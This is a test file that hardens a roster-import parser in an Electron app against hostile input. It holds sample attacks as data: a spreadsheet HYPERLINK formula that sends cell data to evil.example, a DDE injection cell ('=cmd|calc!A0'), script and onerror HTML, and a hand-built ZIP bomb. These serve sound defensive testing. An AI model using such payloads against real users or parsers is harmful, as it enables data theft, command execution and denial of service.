import { deflateRawSync } from 'node:zlib'
import * as XLSX from '@e965/xlsx'
import { describe, expect, it } from 'vitest'
import { readInWorker } from '../../electron/services/imports/in-worker.ts'
import { readTable } from '../../electron/sources/roster-file/read-table.ts'
import { lines, names, read, TODAY, textFile, workbook } from '../helpers/sources-files.ts'

const code = (wanted: string) => expect.objectContaining({ code: wanted })
const workerUrl = new URL('../../electron/services/imports/worker.ts', import.meta.url)
async function parse(bytes: Uint8Array, more: { timeoutMs?: number; signal?: AbortSignal } = {}) {
  const answer = await readInWorker(
    {
      inputs: [{ name: 'liste.csv', bytes }],
      read: { part: 0, mapping: null, passphrase: null, remembered: {} },
      today: TODAY,
    },
    { workerUrl, ...more },
  )
  if (answer.kind !== 'reading') throw new Error('not a reading')
  return answer.reading
}
const readNames = (reading: Awaited<ReturnType<typeof parse>>) =>
  reading.rows.map(({ familyName, givenName }) => `${familyName}|${givenName}`)

/** A ZIP of one entry, written by hand so that it can lie. */
function zip(name: string, content: Uint8Array, claimedSize: number, flags = 0): Uint8Array {
  const packed = deflateRawSync(content, { level: 1, chunkSize: 1024 * 1024 })
  const file = Buffer.from(name)
  const local = Buffer.alloc(30)
  local.writeUInt32LE(0x04034b50, 0)
  local.writeUInt16LE(flags, 6)
  local.writeUInt16LE(8, 8)
  local.writeUInt32LE(packed.length, 18)
  local.writeUInt32LE(claimedSize, 22)
  local.writeUInt16LE(file.length, 26)
  const entry = Buffer.alloc(46)
  entry.writeUInt32LE(0x02014b50, 0)
  entry.writeUInt16LE(flags, 8)
  entry.writeUInt16LE(8, 10)
  entry.writeUInt32LE(packed.length, 20)
  entry.writeUInt32LE(claimedSize, 24)
  entry.writeUInt16LE(file.length, 28)
  const start = local.length + file.length + packed.length
  const end = Buffer.alloc(22)
  end.writeUInt32LE(0x06054b50, 0)
  end.writeUInt16LE(1, 8)
  end.writeUInt16LE(1, 10)
  end.writeUInt32LE(entry.length + file.length, 12)
  end.writeUInt32LE(start, 16)
  return Buffer.concat([local, file, packed, entry, file, end])
}

describe('names that try to be something else', () => {
  it('headers and cells named after what every object has', () => {
    const file = read(
      lines(
        'Nom;Prénom;Classe;__proto__;constructor',
        '__proto__;constructor;toString;1;2',
        'MARTIN;Louise;__proto__;;',
      ),
    )
    expect(names(file)).toEqual(['__proto__|constructor', 'MARTIN|Louise'])
    expect(({} as Record<string, unknown>).Louise).toBeUndefined()
    expect(file.records.some((record) => record.externalId === 'class:proto')).toBe(true)
  })

  it('NUL and turned-around text are taken out and said', () => {
    const file = read(lines('Nom;Prénom;Classe', 'MAR\u0000TIN;\u202eesiuoL;6A'))
    expect(names(file)).toEqual(['MARTIN|esiuoL'])
    expect(file.lines[0]?.reasons.map(({ reason }) => reason)).toEqual(['invisible-removed'])
  })
})

describe('files that are too much', () => {
  it('a hundred thousand columns', async () => {
    const wide = `Nom;Prénom;Classe${';x'.repeat(100_000)}\nMARTIN;Louise;6A${';y'.repeat(100_000)}`
    const file = await parse(textFile(wide))
    expect(file.table?.headers.length).toBe(300)
    expect(readNames(file)).toEqual(['MARTIN|Louise'])
  })

  it('too many rows', () => {
    expect(() => read(`Nom;Prénom\n${'MARTIN;Louise\n'.repeat(20_001)}`)).toThrow(code('file-too-large'))
  })

  it('a file past the limit is not even looked at', () => {
    expect(() => readTable(new Uint8Array(20 * 1024 * 1024 + 1))).toThrow(code('file-too-large'))
  })

  it('a ZIP that unfolds without end, whatever it claims', () => {
    const bomb = zip('[Content_Types].xml', new Uint8Array(160 * 1024 * 1024), 10)
    expect(bomb.byteLength).toBeLessThan(1024 * 1024)
    expect(() => readTable(bomb)).toThrow(code('file-too-large'))
  })

  it('a worker that takes too long is killed', async () => {
    const text = `Nom;Prénom\n${'MARTIN;Louise\n'.repeat(19_000)}`
    await expect(parse(textFile(text), { timeoutMs: 1 })).rejects.toThrow(code('file-unreadable'))
  })
})

describe('cells that would be run', () => {
  it('a formula is never computed, and its text is no name', () => {
    const bytes = workbook({
      '6A': [
        ['Nom', 'Prénom'],
        ['MARTIN', 'Louise'],
      ],
    })
    const book = XLSX.read(bytes, { type: 'array' })
    const sheet = book.Sheets['6A']
    if (sheet === undefined) throw new Error('no sheet')
    sheet.A3 = { t: 's', v: 'PETIT', f: 'HYPERLINK("https://evil.example/?x="&A2,"PETIT")' }
    sheet.B3 = { t: 'e', v: 0x17, w: '#REF!' }
    sheet['!ref'] = 'A1:B3'
    const file = read(Uint8Array.from(XLSX.write(book, { type: 'buffer', bookType: 'xlsx' }) as Buffer))
    expect(JSON.stringify(file.records)).not.toContain('evil.example')
    expect(names(file)).toEqual(['MARTIN|Louise', 'PETIT|#REF!'])
    expect(file.lines[1]?.reasons.map(({ reason }) => reason)).toContain('not-a-name')
  })

  it.each(['=1+1', '+33', '-2', '@SUM(A1)', '=cmd|calc!A0'])('%s is refused as a name', (cell) => {
    const file = read(lines('Élèves;Classe', `${cell};6A`))
    expect(file.lines[0]?.reasons.map(({ reason }) => reason)).toContain('not-a-name')
    expect(file.records).toEqual([])
  })
})

describe('pages that are pasted', () => {
  const paste = (html: string) => read(textFile(html))
  const row = (...cells: string[]) => `<tr>${cells.map((cell) => `<td>${cell}</td>`).join('')}</tr>`

  it('scripts, pictures and handlers are text or nothing, never run', () => {
    const file = paste(
      `<meta charset="utf-8"><script>globalThis.hacked = 1</script><table onload="globalThis.hacked = 2">${row('Élèves', 'Classe')}${row('<img src=x onerror="globalThis.hacked=3">MARTIN Louise', '6A')}${row('&lt;script&gt;alert(1)&lt;/script&gt;', '6A')}</table>`,
    )
    expect('hacked' in globalThis).toBe(false)
    expect(names(file)[0]).toBe('MARTIN|Louise')
    expect(JSON.stringify(file.records)).not.toMatch(/script|onerror/)
    expect(file.lines[1]?.reasons.map(({ reason }) => reason)).toContain('not-a-name')
  })

  it('a cell that claims a million columns, and tables inside tables without end', async () => {
    const wide = `<table><tr><td colspan="1000000">Liste</td></tr>${row('Nom', 'Prénom', 'Classe')}${row('MARTIN', 'Louise', '6A')}</table>`
    expect(readNames(await parse(textFile(wide)))).toEqual(['MARTIN|Louise'])
    const nested = `${'<table><tr><td>'.repeat(20_000)}Nom`
    await expect(parse(textFile(nested))).rejects.toThrow(expect.objectContaining({ name: 'TrousseError' }))
  })
})

describe('files that try every limit at once', () => {
  it('a million columns', async () => {
    const wide = `Nom;Prénom;Classe${';x'.repeat(1_000_000)}\nMARTIN;Louise;6A`
    expect(readNames(await parse(textFile(wide)))).toEqual(['MARTIN|Louise'])
  })

  it('nothing but NUL bytes', async () => {
    await expect(parse(new Uint8Array(1_000_000))).rejects.toThrow(code('file-kind-unknown'))
  })

  it('one line without end, with a quote that never closes', async () => {
    const text = `Nom;Prénom;Classe\n"MARTIN${'a'.repeat(5_000_000)};Louise;6A`
    await expect(parse(textFile(text))).rejects.toThrow(expect.objectContaining({ name: 'TrousseError' }))
  })
})

describe('files that are not what they seem', () => {
  it.each([
    ['a PDF', textFile('%PDF-1.7 …')],
    ['a picture', Uint8Array.of(0x89, 0x50, 0x4e, 0x47, 13, 10, 26, 10)],
    ['another ZIP', zip('notes.txt', textFile('bonjour'), 7)],
  ])('%s', (_, bytes) => {
    expect(() => readTable(bytes)).toThrow(code('file-kind-unknown'))
  })

  it('a workbook cut short', () => {
    const whole = workbook({ '6A': [['Nom', 'Prénom']] })
    expect(() => readTable(whole.subarray(0, whole.length / 2))).toThrow(code('file-unreadable'))
  })

  it('an old workbook of noise', () => {
    const noise = Uint8Array.from({ length: 4096 }, (_, index) => (index * 31) % 256)
    noise.set([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1])
    expect(() => readTable(noise)).toThrow(code('file-unreadable'))
  })

  it('a workbook with a password', () => {
    const ole = new Uint8Array(2048)
    ole.set([0xd0, 0xcf, 0x11, 0xe0])
    ole.set(Buffer.from('EncryptedPackage', 'utf16le'), 1024)
    expect(() => readTable(ole)).toThrow(code('file-password-protected'))
    expect(() => readTable(zip('[Content_Types].xml', textFile('x'), 1, 1))).toThrow(code('file-password-protected'))
  })
})

describe('the worker', () => {
  it('gives the same as reading here, and leaves the caller its bytes', async () => {
    const bytes = workbook({
      '6e A': [
        ['Nom', 'Prénom'],
        ['MARTIN', 'Louise'],
      ],
    })
    const size = bytes.byteLength
    const file = await parse(bytes)
    expect(file.records).toEqual(read(bytes).records)
    expect(file.table?.mapping).toEqual(read(bytes).mapping)
    expect(bytes.byteLength).toBe(size)
  })

  it('passes on why a file is refused', async () => {
    await expect(parse(textFile('rien\nd’utile'))).rejects.toThrow(code('file-no-header'))
  })

  it('stops when it is told to', async () => {
    const controller = new AbortController()
    const work = parse(textFile('Nom;Prénom\nMARTIN;Louise'), { signal: controller.signal })
    controller.abort()
    await expect(work).rejects.toThrow(code('cancelled'))
  })
})
